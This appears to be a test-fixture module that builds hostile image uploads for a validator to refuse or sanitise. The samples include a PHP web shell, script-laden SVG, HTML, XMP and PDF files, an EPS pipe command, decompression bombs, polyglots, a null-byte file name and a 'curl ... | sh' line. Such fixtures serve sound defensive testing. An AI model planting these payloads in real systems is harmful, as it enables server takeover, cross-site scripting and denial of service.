"""Hostile uploads, made in code: files that must be refused, and pictures that carry a payload.

Every builder returns the file's bytes; ``REFUSED`` and ``DEFUSED`` name them. Nothing
here allocates the pixels a file claims: bombs are headers over a few bytes of data.
"""

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def _encoded(img: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, fmt, **params)
    return buffer.getvalue()


def _picture(size=(64, 48)) -> Image.Image:
    img = Image.new("RGB", size, (200, 40, 40))
    for x in range(0, size[0], 4):
        img.putpixel((x, x % size[1]), (20, 20, 220))
    return img


def jpeg() -> bytes:
    return _encoded(_picture(), "JPEG", quality=90)


def png() -> bytes:
    return _encoded(_picture(), "PNG")


def webp() -> bytes:
    return _encoded(_picture((128, 96)), "WEBP", quality=80)


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def _png_from_chunks(width: int, height: int, *chunks: bytes, bit_depth: int = 1) -> bytes:
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"".join(chunks) + _png_chunk(b"IEND", b"")


def _deflate_zeros(total: int) -> bytes:
    """Return ``total`` zero bytes deflated, made in pieces (never ``total`` in memory)."""
    packer = zlib.compressobj(9)
    piece = b"\x00" * (1 << 20)
    out = []
    for start in range(0, total, len(piece)):
        out.append(packer.compress(piece[: min(len(piece), total - start)]))
    out.append(packer.flush())
    return b"".join(out)


# --- files that are not an acceptable picture --------------------------------------------


def png_html_polyglot() -> bytes:
    """An HTML page that is also a PNG further in: a browser sniffing it runs the script."""
    return HTML + b"\n<!--" + png() + b"-->"


def svg_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>'
    )


def svg_onload() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def php_as_jpg() -> bytes:
    return PHP


def png_30000_square() -> bytes:
    """A decompression bomb: 30000 x 30000 one-bit pixels, each row all zero."""
    row = b"\x00" + b"\x00" * (30000 // 8)
    return _png_from_chunks(30000, 30000, _png_chunk(b"IDAT", _deflate_zeros(len(row) * 30000)))


def gif_bomb_in_a_later_frame() -> bytes:
    """A 10 x 10 GIF whose second frame claims 30000 x 30000 pixels."""
    first = _encoded(Image.new("P", (10, 10)), "GIF")
    assert first.endswith(b";")
    later = (
        b"\x2c" + struct.pack("<HHHH", 0, 0, 30000, 30000) + b"\x00"
        # LZW minimum code size, then a few blocks of a code stream that never ends.
        + b"\x08" + (b"\xff" + b"\x00" * 255) * 8 + b"\x00"
    )  # fmt: skip
    return first[:-1] + later + b";"


def apng_bomb_in_a_later_frame() -> bytes:
    """An animated PNG: a 16 x 16 first frame, then a frame claiming 30000 x 30000."""
    frames = [Image.new("RGB", (16, 16), (200, 0, 0)), Image.new("RGB", (16, 16), (0, 0, 200))]
    data = _encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])
    # Rewrite the second fcTL chunk's size: Pillow reads it only when seeking there.
    first = data.index(b"fcTL")
    second = data.index(b"fcTL", first + 4)
    payload = bytearray(data[second + 4 : second + 4 + 26])
    payload[4:12] = struct.pack(">II", 30000, 30000)
    chunk = _png_chunk(b"fcTL", bytes(payload))
    return data[: second - 4] + chunk + data[second + 4 + 26 + 4 :]


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))"
        b">>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def eps() -> bytes:
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 30000 30000\n"
        b"(%pipe%id) (w) file\nshowpage\n%%EOF\n"
    )


def eps_dos_binary() -> bytes:
    body = eps()
    header = b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIIIH", 30, len(body), 0, 0, 0, 0, 0xFFFF)
    return header + body


def fits() -> bytes:
    cards = [
        "SIMPLE  =                    T",
        "BITPIX  =                    8",
        "NAXIS   =                    2",
        "NAXIS1  =                30000",
        "NAXIS2  =                30000",
        "END",
    ]
    header = b"".join(card.ljust(80).encode() for card in cards)
    return header.ljust(2880, b" ") + b"\x00" * 2880


def truncated_jpeg() -> bytes:
    data = _encoded(_picture((400, 300)), "JPEG", quality=95)
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = _encoded(_picture((400, 300)).effect_spread(3), "PNG")
    return data[: len(data) // 2]


def truncated_webp() -> bytes:
    data = webp()
    return data[: len(data) // 2]


def png_signature_only() -> bytes:
    return b"\x89PNG\r\n\x1a\n"


def jpeg_markers_only() -> bytes:
    return b"\xff\xd8\xff\xd9"


def empty() -> bytes:
    return b""


def oversized() -> bytes:
    """A JPEG start, padded one byte past the 10 MB cap."""
    return (b"\xff\xd8\xff\xe0" + b"\x00" * (10 * 1024 * 1024)).ljust(10 * 1024 * 1024 + 1, b"\0")


def html_with_a_null_byte_in_its_name() -> bytes:
    return HTML


def ico() -> bytes:
    return _encoded(_picture((32, 32)), "ICO")


def bmp() -> bytes:
    return _encoded(_picture(), "BMP")


def tiff() -> bytes:
    return _encoded(_picture(), "TIFF")


def psd() -> bytes:
    """A Photoshop header: 3 channels of 30000 x 30000."""
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 30000, 30000, 8, 3) + b"\x00" * 64


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("shell.php", PHP)
    return buffer.getvalue()


def html() -> bytes:
    return HTML


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 40


def windows_exe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 64


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def jpeg_claiming_65000_square() -> bytes:
    """A real JPEG whose frame header says 65000 x 65000."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def webp_claiming_16383_square() -> bytes:
    """An extended WebP whose canvas says 16383 x 16383 (268 megapixels)."""
    inner = webp()[12:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
    vp8x += (16382).to_bytes(3, "little") + (16382).to_bytes(3, "little")
    body = b"WEBP" + vp8x + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 64


def jpeg2000() -> bytes:
    return b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00\x00\x00\x14ftypjp2 " + b"\x00" * 64


def png_with_a_bad_header_checksum() -> bytes:
    data = bytearray(png())
    data[29:33] = b"\x00\x00\x00\x00"  # the IHDR chunk's CRC
    return bytes(data)


def png_zero_by_zero() -> bytes:
    return _png_from_chunks(0, 0, _png_chunk(b"IDAT", zlib.compress(b"")))


def png_text_bomb() -> bytes:
    """A small PNG with a compressed text chunk that inflates to 64 MB."""
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + _deflate_zeros(64 * 1024 * 1024))
    row = b"\x00" + b"\x00" * 2
    return _png_from_chunks(16, 16, ztxt, _png_chunk(b"IDAT", zlib.compress(row * 16)))


def png_icc_bomb() -> bytes:
    """A small PNG whose colour profile inflates to 64 MB."""
    iccp = _png_chunk(b"iCCP", b"evil\x00\x00" + _deflate_zeros(64 * 1024 * 1024))
    row = b"\x00" + b"\x00" * 2
    return _png_from_chunks(16, 16, iccp, _png_chunk(b"IDAT", zlib.compress(row * 16)))


def dds() -> bytes:
    return b"DDS " + struct.pack("<7I", 124, 0x1007, 30000, 30000, 0, 0, 0) + b"\x00" * 100


def pcx() -> bytes:
    return _encoded(_picture(), "PCX")


def xbm() -> bytes:
    return b"#define evil_width 30000\n#define evil_height 30000\nstatic char evil_bits[] = {0};\n"


def tga() -> bytes:
    return _encoded(_picture(), "TGA")


# (name as uploaded, builder): every one must be refused.
REFUSED = [
    ("polyglot.png", png_html_polyglot),
    ("drawing.svg", svg_script),
    ("drawing.jpg", svg_onload),
    ("shell.php.jpg", php_as_jpg),
    ("bomb.png", png_30000_square),
    ("later-frame.gif", gif_bomb_in_a_later_frame),
    ("document.jpg", pdf),
    ("postscript.jpg", eps),
    ("dos-eps.jpg", eps_dos_binary),
    ("telescope.jpg", fits),
    ("cut.jpg", truncated_jpeg),
    ("cut.png", truncated_png),
    ("cut.webp", truncated_webp),
    ("signature.png", png_signature_only),
    ("markers.jpg", jpeg_markers_only),
    ("empty.jpg", empty),
    ("huge.jpg", oversized),
    ("photo\x00.php.jpg", html_with_a_null_byte_in_its_name),
    ("favicon.ico", ico),
    ("bitmap.bmp", bmp),
    ("scan.tiff", tiff),
    ("layers.psd", psd),
    ("photos.zip", zip_archive),
    ("page.html", html),
    ("program.jpg", elf),
    ("setup.jpg", windows_exe),
    ("run.sh.jpg", shell_script),
    ("claims-65000.jpg", jpeg_claiming_65000_square),
    ("claims-16383.webp", webp_claiming_16383_square),
    ("iphone.heic", heic),
    ("still.jp2", jpeg2000),
    ("bad-crc.png", png_with_a_bad_header_checksum),
    ("nothing.png", png_zero_by_zero),
    ("text-bomb.png", png_text_bomb),
    ("icc-bomb.png", png_icc_bomb),
    ("texture.dds", dds),
    ("paint.pcx", pcx),
    ("bits.xbm", xbm),
    ("targa.tga", tga),
]


# --- real pictures carrying something else: accepted, but nothing of it is kept ----------


def jpeg_with_a_huge_exif_blob() -> bytes:
    """A JPEG with GPS, a near-64 KB EXIF segment, PHP in its comment and XMP with a script."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Walton"
    exif[ExifTags.Base.ImageDescription] = "x" * 60000
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (23.0, 48.0, 36.0),
    }
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>'
    return _encoded(_picture(), "JPEG", exif=exif, comment=PHP, xmp=xmp)


def png_with_html_after_its_end() -> bytes:
    """A real PNG with a script in a text chunk and an HTML page after IEND."""
    data = png()
    end = data.index(b"IEND") - 4
    text = _png_chunk(b"tEXt", b"Comment\x00" + HTML)
    return data[:end] + text + data[end:] + HTML


def jpeg_php_polyglot() -> bytes:
    return jpeg() + PHP


# (name as uploaded, builder, bytes that must not survive)
DEFUSED = [
    ("exif.php.jpg", jpeg_with_a_huge_exif_blob, (b"Walton", b"<?php", b"<script")),
    ("polyglot-after-end.png", png_with_html_after_its_end, (b"<script", b"<html")),
    ("shell.php.jpg", jpeg_php_polyglot, (b"<?php",)),
    ("photo\x00.php.jpg", jpeg, (b"php",)),
    ("later-frame.png", apng_bomb_in_a_later_frame, (b"fcTL", b"acTL")),
]
